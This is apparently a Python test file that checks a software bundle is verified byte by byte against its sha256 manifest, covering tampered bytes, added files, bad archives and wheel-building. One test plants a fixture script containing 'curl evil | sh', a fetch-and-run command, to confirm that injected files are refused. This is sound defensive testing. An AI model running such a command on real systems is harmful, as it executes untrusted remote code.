"""The carry-over bundle: every byte checked against its manifest before anything is built or kept.

No engine: these write real tar files and read them back; the build from a bundle with the network
off is tests/test_build_bundle.py.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from ascend_stack import bundle, sdists
from ascend_stack.errors import UserError
from ascend_stack.pylock import PyLock

REPO = Path(__file__).resolve().parents[1]
TARGET = {"choices": {"cann": "test", "arch": "x86_64", "os": "debian-bookworm", "torch": "2.13.0", "chip": "910b"}}


def small_bundle(tmp_path: Path) -> Path:
    src = tmp_path / "src"
    (src / "os").mkdir(parents=True)
    files = {
        "packages/Ascend-cann-toolkit_8.2.RC1_linux-x86_64.run": b"#!/bin/sh\necho toolkit\n",
        "packages/os/debian-bookworm-x86_64/pool/a.deb": b"deb bytes",
        "wheelhouse/six-1.17.0-py2.py3-none-any.whl": b"PK wheel bytes",
        "sources/mindspeed.git/HEAD": b"0123\n",
    }
    mapping = {}
    for rel, data in files.items():
        path = src / rel.replace("/", "__")
        path.write_bytes(data)
        mapping[rel] = path
    os.chmod(mapping["packages/Ascend-cann-toolkit_8.2.RC1_linux-x86_64.run"], 0o755)
    out, _ = bundle.write(tmp_path / "test.tar", mapping, TARGET, progress=False)
    return out


def flip_a_byte(tar_path: Path, member: str) -> None:
    with tarfile.open(tar_path) as tar:
        offset = tar.getmember(member).offset_data
    with tar_path.open("r+b") as fh:
        fh.seek(offset)
        byte = fh.read(1)
        fh.seek(offset)
        fh.write(bytes([byte[0] ^ 0x01]))


def test_a_bundle_unpacks_to_what_was_written_with_modes(tmp_path: Path) -> None:
    out = small_bundle(tmp_path)
    got = bundle.unpack(out, tmp_path / "bundles", progress=False)
    assert got.target == TARGET
    run = got.packages / "Ascend-cann-toolkit_8.2.RC1_linux-x86_64.run"
    assert run.read_bytes() == b"#!/bin/sh\necho toolkit\n" and os.access(run, os.X_OK)
    assert (got.packages / "os/debian-bookworm-x86_64/pool/a.deb").read_bytes() == b"deb bytes"
    manifest = bundle.read_manifest(out)
    assert {f["path"] for f in manifest["files"]} == {str(p.relative_to(got.root)) for p in got.root.rglob("*")
                                                      if p.is_file() and p.name != ".verified"}  # fmt: skip
    assert bundle.unpack(out, tmp_path / "bundles", progress=False).root == got.root  # verified once, reused


@pytest.mark.parametrize("member", ["wheelhouse/six-1.17.0-py2.py3-none-any.whl", "sources/mindspeed.git/HEAD"])
def test_a_changed_byte_is_refused_naming_the_file_and_nothing_is_kept(tmp_path: Path, member: str) -> None:
    out = small_bundle(tmp_path)
    flip_a_byte(out, member)
    root = tmp_path / "bundles"
    with pytest.raises(UserError) as err:
        bundle.unpack(out, root, progress=False)
    assert member in str(err.value) and "sha256" in str(err.value)
    assert list(root.iterdir()) == []


def test_an_added_file_is_refused(tmp_path: Path) -> None:
    out = small_bundle(tmp_path)
    extra = tmp_path / "evil.sh"
    extra.write_text("curl evil | sh\n")
    with tarfile.open(out, "a") as tar:
        tar.add(extra, arcname="packages/evil.sh")
    with pytest.raises(UserError, match=r"packages/evil\.sh is not in its manifest"):
        bundle.unpack(out, tmp_path / "bundles", progress=False)


@pytest.mark.parametrize("what", ["missing", "not a tar", "no manifest"])
def test_what_is_no_bundle_is_one_line(tmp_path: Path, what: str) -> None:
    path = tmp_path / "x.tar"
    if what == "not a tar":
        path.write_text("hello\n")
    elif what == "no manifest":
        with tarfile.open(path, "w") as tar:
            tar.add(__file__, arcname="README")
    with pytest.raises(UserError) as err:
        bundle.unpack(path, tmp_path / "bundles", progress=False)
    assert str(path) in str(err.value) and "\n" not in str(err.value)


def test_invoke_build_refuses_a_tampered_bundle_before_docker(tmp_path: Path) -> None:
    out = small_bundle(tmp_path)
    flip_a_byte(out, "packages/Ascend-cann-toolkit_8.2.RC1_linux-x86_64.run")
    env = {**os.environ, "DOCKER_HOST": "unix:///nonexistent/docker.sock", "PATH": os.environ["PATH"]}
    proc = subprocess.run([sys.executable, "-m", "invoke", "build", "--bundle", str(out)], cwd=REPO,
                          capture_output=True, text=True, env=env)  # fmt: skip
    assert proc.returncode != 0 and "Traceback" not in proc.stderr
    [line] = proc.stderr.strip().splitlines()
    assert "packages/Ascend-cann-toolkit_8.2.RC1_linux-x86_64.run has sha256" in line, line
    assert "Docker" not in line  # refused by the manifest, not by a missing engine


def test_a_choice_that_is_not_the_bundles_is_refused(tmp_path: Path) -> None:
    got = bundle.unpack(small_bundle(tmp_path), tmp_path / "bundles", progress=False)
    given = {"cann": "8.1.RC1", "arch": None, "os": None, "torch": None, "chip": None}
    with pytest.raises(UserError, match=r"--cann 8\.1\.RC1: .* holds cann test"):
        bundle.choices(got, given, tmp_path / "test.tar")
    assert bundle.choices(got, {k: None for k in given}, tmp_path / "test.tar")["arch"] == "x86_64"


SDIST_HASH = "a" * 64
LOCK_TEXT = f"""word2number==1.1 \\
    --hash=sha256:{SDIST_HASH}
    # via -r mindspeed.in
six==1.17.0 \\
    --hash=sha256:{"b" * 64}
"""


def test_a_built_wheel_is_installed_by_its_own_hash_beside_the_sdists(tmp_path: Path) -> None:
    lock = PyLock(tmp_path / "lock.txt", {"mindspeed": "x"}, {"mindspeed": LOCK_TEXT})
    house = tmp_path / "wheelhouse"
    house.mkdir()
    record = {"word2number-1.1-py3-none-any.whl": {"sha256": "c" * 64, "sdist": "word2number-1.1.zip",
                                                   "sdist_sha256": SDIST_HASH, "built_in": "base"}}  # fmt: skip
    (house / sdists.RECORD).write_text(json.dumps(record))
    assert sdists.with_built_wheels(lock, [house]) is lock  # the wheel itself is not there: nothing to add
    (house / "word2number-1.1-py3-none-any.whl").write_bytes(b"PK")
    text = sdists.with_built_wheels(lock, [house]).sections["mindspeed"]
    assert f"--hash=sha256:{SDIST_HASH} \\\n    --hash=sha256:{'c' * 64}\n    # via" in text
    assert text.count("--hash=") == 3 and lock.sections["mindspeed"] == LOCK_TEXT


def test_an_sdist_is_built_with_the_users_wheelhouses_too_and_a_failure_names_pips_error(tmp_path: Path) -> None:
    """`invoke fetch --wheels` counts a setuptools wheel in a --wheelhouse dir as local, so the
    sdist build must see that dir; pip's own ERROR line (not its closing note) is the message."""
    sdist, house, extra = tmp_path / "word2number-1.1.zip", tmp_path / "wheelhouse", tmp_path / "user-wheels"
    sdist.write_bytes(b"an sdist")
    house.mkdir()
    extra.mkdir()
    argv = tmp_path / "argv"
    docker = tmp_path / "docker"
    docker.write_text(
        "#!/bin/sh\n"
        f'printf "%s\\n" "$@" > {argv}\n'
        'echo "ERROR: Could not find a version that satisfies the requirement setuptools>=40.8.0" >&2\n'
        'echo "note: This error originates from a subprocess, and is likely not a problem with pip." >&2\n'
        "exit 1\n"
    )
    docker.chmod(0o755)
    with pytest.raises(UserError) as info:
        sdists.build_wheels([sdist], house, "base:x", "linux/amd64", docker=str(docker), find_links=[extra])
    assert str(info.value).endswith("failed in base:x: ERROR: Could not find a version that satisfies the "
                                    "requirement setuptools>=40.8.0")  # fmt: skip
    args = argv.read_text().splitlines()
    assert f"{extra.resolve()}:/mnt/find-links/0:ro" in args
    links = [args[i + 1] for i, a in enumerate(args) if a == "--find-links"]
    assert links == ["/mnt/wheelhouse", "/mnt/find-links/0"]
